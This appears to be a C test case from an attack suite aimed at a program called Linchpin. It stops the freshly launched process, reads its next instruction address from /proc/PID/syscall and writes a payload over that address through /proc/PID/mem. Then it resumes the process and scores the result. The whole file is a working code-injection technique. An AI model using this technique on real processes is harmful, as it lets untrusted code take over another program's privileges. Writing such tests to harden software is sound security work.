// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * Linchpin itself, stopped on its way; other code is written over that which runs next, through /proc/PID/mem.
 * Success: a map of the agent's.
 */
#include "payload.h"
#include <signal.h>
#include <sys/wait.h>

static void run(void)
{
	pid_t child = must("fork", fork());
	char path[64], line[256] = {};
	unsigned long next = 0;
	int file, status;

	if (child == 0) {
		execl(LINCHPIN, LINCHPIN, "status", NULL);
		_exit(127);
	}
	snprintf(path, sizeof(path), "/proc/%d/exe", child);
	for (int i = 0; i < 10000 && !strstr(line, LINCHPIN); i++)
		(void)!readlink(path, line, sizeof(line) - 1);
	usleep(50000);
	kill(child, SIGSTOP);
	usleep(100000);
	snprintf(path, sizeof(path), "/proc/%d/syscall", child);
	file = must("open /proc/PID/syscall", open(path, O_RDONLY));
	memset(line, 0, sizeof(line));
	must("read /proc/PID/syscall", read(file, line, sizeof(line) - 1));
	if (strrchr(line, ' '))
		next = strtoul(strrchr(line, ' '), NULL, 16);
	snprintf(path, sizeof(path), "/proc/%d/mem", child);
	file = must("open /proc/PID/mem", open(path, O_RDWR));
	must("write /proc/PID/mem", pwrite(file, payload, payload_end - payload, next));
	kill(child, SIGCONT);
	waitpid(child, &status, 0);
	judge_code(WIFEXITED(status) ? WEXITSTATUS(status) : 128);
}

ATTACK("writes other code into linchpin through /proc/PID/mem", .run = run);
